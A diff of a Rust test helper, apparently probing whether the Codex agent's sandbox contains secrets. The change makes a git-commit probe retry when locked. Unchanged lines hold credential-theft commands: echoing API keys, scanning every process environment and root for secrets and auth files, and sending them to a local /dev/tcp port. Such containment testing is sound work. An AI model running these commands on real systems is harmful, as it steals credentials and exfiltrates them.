@@ -26,7 +26,9 @@ fn probe(codex_home: &str, port: u16) -> String {
         "echo \"key=$OPENAI_API_KEY codex=$CODEX_API_KEY\"".to_owned(),
         format!("for p in /proc/[0-9]*; do tr '\\0' '\\n' < $p/environ 2>/dev/null | grep -a SECRET; cat $p/root{auth} 2>/dev/null; done"),
         format!("(cat {auth}; echo $OPENAI_API_KEY) > /dev/tcp/127.0.0.1/{port} && echo sent || echo send failed"),
-        "date +%N > made.txt && git add made.txt && git -c user.name=t -c user.email=t@t commit -qm made && echo committed".to_owned(),
+        // Codex may run both probes at once: each commits its own file, again while the
+        // other holds git's locks.
+        "f=made-$$.txt; date +%N > $f; for i in 1 2 3 4 5 6 7 8 9 10; do git add $f && git -c user.name=t -c user.email=t@t commit -qm made -- $f && { echo committed; break; }; sleep 0.5; done".to_owned(),
     ]
     .join("\n")
 }
